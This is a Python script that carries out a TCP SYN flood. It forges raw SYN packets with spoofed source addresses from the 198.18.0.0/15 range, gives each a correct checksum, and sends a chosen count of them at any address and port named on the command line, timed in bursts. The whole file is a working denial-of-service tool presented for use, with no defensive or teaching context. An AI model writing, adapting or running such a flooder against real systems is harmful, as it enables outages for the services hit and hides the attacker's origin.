"""Sends SYNs from made-up sources, a random address and port each: syn_flood.py ADDRESS PORT COUNT SECONDS

The sources are of 198.18.0.0/15 (RFC 2544), so nobody ever answers what comes back. Needs a raw socket.
"""
import random
import socket
import struct
import sys
import time

address, port = sys.argv[1], int(sys.argv[2])
count, seconds = int(sys.argv[3]), float(sys.argv[4])
destination = struct.unpack("!I", socket.inet_aton(address))[0]
options = bytes([2, 4, 5, 180, 4, 2, 1, 1])  # an MSS of 1,460 bytes, and SACK


def folded(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def segment(source, source_port, sequence):
    """A SYN with the right checksum: without it no stack would look at it."""
    words = struct.pack("!IIHHHHIIBBHHH", source, destination, 6, 28, source_port, port, sequence, 0, 0x70, 2, 65535, 0, 0)
    check = 0xFFFF ^ folded(sum(struct.unpack("!20H", words + options)))
    return struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x70, 2, 65535, check, 0) + options


def packet():
    source = 0xC6120000 | random.getrandbits(17)
    # The kernel fills in the length and the checksum of the IP header (raw(7)).
    header = struct.pack("!BBHHHBBHII", 0x45, 0, 48, random.getrandbits(16), 0, 64, 6, 0, source, destination)
    return header + segment(source, random.randrange(1024, 65536), random.getrandbits(32))


refused = 0
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    begin = time.monotonic()
    for number in range(count):
        # In small bursts: a queue takes 500 packets.
        if number % 50 == 0:
            time.sleep(max(0.0, begin + seconds * number / count - time.monotonic()))
        try:
            raw.sendto(packet(), (address, 0))
        except OSError:
            refused += 1
    took = time.monotonic() - begin
print("sent %d in %.1f s" % (count - refused, took))
